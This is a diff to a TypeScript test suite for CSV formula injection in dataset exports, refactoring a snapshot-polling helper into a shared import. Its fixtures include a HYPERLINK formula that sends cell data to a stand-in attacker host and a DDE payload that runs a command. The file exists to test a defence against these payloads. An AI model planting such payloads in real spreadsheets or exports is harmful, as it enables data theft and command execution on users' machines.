@@ -9,21 +9,12 @@ import { parquetReadObjects } from "hyparquet";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { invoiceType, makeKey, makeType, makeUser } from "../support/db";
 import { CORRECTED, reviewed } from "../support/labelled";
-import { startServer, type TestServer } from "../support/server";
+import { startServer, waitForSnapshot, type TestServer } from "../support/server";
 
 const LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
 const NOTE = "@SUM(1+1)*cmd|' /C calc'!A0";
 const MODEL = "+malicious-model";
 const TAB = "\tindented";
-
-async function waitReady(s: TestServer, key: string, location: string) {
-  for (let i = 0; i < 200; i++) {
-    const res = await s.request(location, { key });
-    if (res.body.status !== "building") return res.body;
-    await new Promise((r) => setTimeout(r, 50));
-  }
-  throw new Error("snapshot never finished");
-}
 
 describe("CSV formula injection", () => {
   let s: TestServer;
@@ -64,7 +55,7 @@ describe("CSV formula injection", () => {
     const snap = await s.request(`/api/v1/datasets/${created.body.id}/snapshots`, { key: manager, body: {} });
     expect(snap.status).toBe(202);
     const location = snap.headers.get("Location")!;
-    expect(await waitReady(s, manager, location)).toMatchObject({ status: "ready", rowCount: 2 });
+    expect(await waitForSnapshot(s, manager, location)).toMatchObject({ status: "ready", rowCount: 2 });
     const download = async (format: string) => fetch(`${s.url}${location}/download?format=${format}&split=all`, { headers: { Authorization: `Bearer ${manager}` } });
 
     const csv = parseCsv(await (await download("csv")).text(), { columns: true }) as Record<string, string>[];
